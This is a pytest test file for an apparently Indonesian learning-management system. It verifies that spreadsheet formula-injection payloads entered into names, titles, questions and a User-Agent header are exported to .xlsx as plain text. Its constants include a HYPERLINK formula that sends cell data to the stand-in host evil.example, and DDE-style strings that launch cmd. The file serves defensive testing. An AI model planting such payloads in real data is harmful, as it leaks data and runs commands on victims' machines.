"""Formula injection: text a user typed that a spreadsheet would run (=HYPERLINK, +cmd, -1+1, @SUM, a leading tab or
CR) comes out of every .xlsx export as plain text, read back with openpyxl."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from lms.auth.models import Role
from lms.jobs import join_threads

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
POSITION = "+cmd|' /C calc'!A0"
AGENCY = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "-1+1+cmd|' /C calc'!A0"
SESSION = "\t=1+1"
QUESTION = "\r=2+2"
MODULE = "=1+1"
PAYLOADS = {NAME, POSITION, AGENCY, TITLE, SESSION, QUESTION, MODULE}


@pytest.fixture
def injected(db, scene):
    bob, event = scene["bob"], scene["event"]
    bob.name, bob.position = NAME, POSITION
    scene["agency_b"].name = AGENCY
    event.title = TITLE
    event.sessions[0].title = SESSION
    scene["question"].text = QUESTION
    scene["modules"]["event"].title = MODULE
    for certificate in scene["certificates"].values():
        if certificate.user_id == bob.id:
            certificate.holder_name, certificate.holder_agency = NAME, AGENCY
    db.session.commit()
    return scene


def cells(data: bytes):
    workbook = load_workbook(BytesIO(data))
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def check_export(response, *expected: str) -> None:
    assert response.status_code == 200, response.status_code
    assert response.mimetype.endswith("spreadsheetml.sheet")
    found = set()
    for sheet, c in cells(response.data):
        assert c.data_type != "f", f"{sheet}!{c.coordinate} is a formula: {c.value!r}"
        if isinstance(c.value, str):
            for payload in PAYLOADS:
                if payload in c.value or (payload.strip() != payload and c.value.strip() == payload.strip()):
                    assert c.data_type == "s", f"{sheet}!{c.coordinate}"
                    found.add(payload)
    missing = set(expected) - found
    assert not missing, f"not exported (as text): {missing}"


def test_organiser_exports(client_as, injected):
    http, e = client_as(injected["organiser"]), injected["event"].id
    check_export(http.get(f"/kelola/acara/{e}/peserta.xlsx"), NAME, POSITION, AGENCY)
    check_export(http.get(f"/kelola/acara/{e}/materi/progres.xlsx"), NAME)
    check_export(http.get(f"/kelola/acara/{e}/presensi/rekap.xlsx"), NAME, SESSION)
    check_export(http.get(f"/kelola/acara/{e}/rekap.xlsx"), NAME, TITLE)
    check_export(http.get(f"/kelola/acara/{e}/tes/soal/ekspor.xlsx"), QUESTION)
    check_export(http.get(f"/kelola/acara/{e}/tes/laporan.xlsx"), NAME)
    check_export(http.get("/laporan/dasbor.xlsx"), TITLE)


def test_admin_and_officer_exports(client_as, make_user, injected):
    admin = client_as(make_user(Role.admin))
    check_export(admin.get("/laporan/asn.xlsx"), NAME)
    check_export(admin.get("/laporan/siasn.xlsx"), NAME, TITLE)
    officer = client_as(injected["officer_b"])
    check_export(officer.get("/instansi-saya/rekap.xlsx"), NAME)


def test_audit_export(client_as, make_user, injected):
    admin = make_user(Role.admin, name=NAME)
    http = client_as(admin)
    http.post("/admin/instansi/baru", data={"name": "x"}, headers={"User-Agent": POSITION})
    check_export(http.get("/admin/log-audit.xlsx"), NAME, POSITION)


def test_recap_built_as_a_background_job(client_as, injected):
    from lms.jobs_models import Job
    from lms.storage import get_storage

    http, e = client_as(injected["organiser"]), injected["event"].id
    assert http.post(f"/kelola/acara/{e}/rekap").status_code in (200, 302)
    join_threads()
    from lms.extensions import db

    db.session.expire_all()
    job = db.session.execute(db.select(Job).order_by(Job.id.desc())).scalars().first()
    assert job is not None and job.result_key, job and job.error
    with get_storage().open(job.result_key) as stream:
        data = stream.read()

    class Fake:
        status_code, mimetype = 200, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

    Fake.data = data
    check_export(Fake, NAME, TITLE)
